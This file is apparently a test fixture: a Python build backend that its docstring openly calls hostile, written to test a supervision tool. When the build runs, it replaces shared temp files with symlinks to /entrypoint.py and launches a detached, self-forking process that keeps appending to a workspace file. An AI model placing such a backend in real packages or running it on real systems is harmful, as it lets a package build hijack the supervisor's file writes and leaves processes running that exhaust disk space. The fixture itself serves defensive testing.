"""A build backend that means harm: it leaves a process, and links where the supervisor might write."""

import subprocess
import sys
import zipfile
from pathlib import Path

_SCRIPT = """
import os
if os.fork(): os._exit(0)
os.setsid()
while True:
    with open("/github/workspace/backend", "a") as file: file.write("x")
    if os.fork(): os._exit(0)
"""


def _attack():
    for folder in Path("/tmp").glob("pipeproof-*/shared"):
        for name in ("requirements.txt", "missing.txt", "resolved"):
            (folder / name).unlink(missing_ok=True)
            (folder / name).symlink_to("/entrypoint.py")
    quiet = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
    subprocess.run([sys.executable, "-I", "-S", "-c", _SCRIPT, "-of-the-backend"], check=True, **quiet)


def build_editable(wheel_directory, config_settings=None, metadata_directory=None):
    _attack()
    name = "hostile-1.0-py3-none-any.whl"
    information = "hostile-1.0.dist-info"
    files = {
        f"{information}/METADATA": "Metadata-Version: 2.1\nName: hostile\nVersion: 1.0\n",
        f"{information}/WHEEL": "Wheel-Version: 1.0\nGenerator: hostile\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    with zipfile.ZipFile(Path(wheel_directory) / name, "w") as wheel:
        for path, text in files.items():
            wheel.writestr(path, text)
        wheel.writestr(f"{information}/RECORD", "".join(f"{path},,\n" for path in (*files, f"{information}/RECORD")))
    return name


build_wheel = build_editable
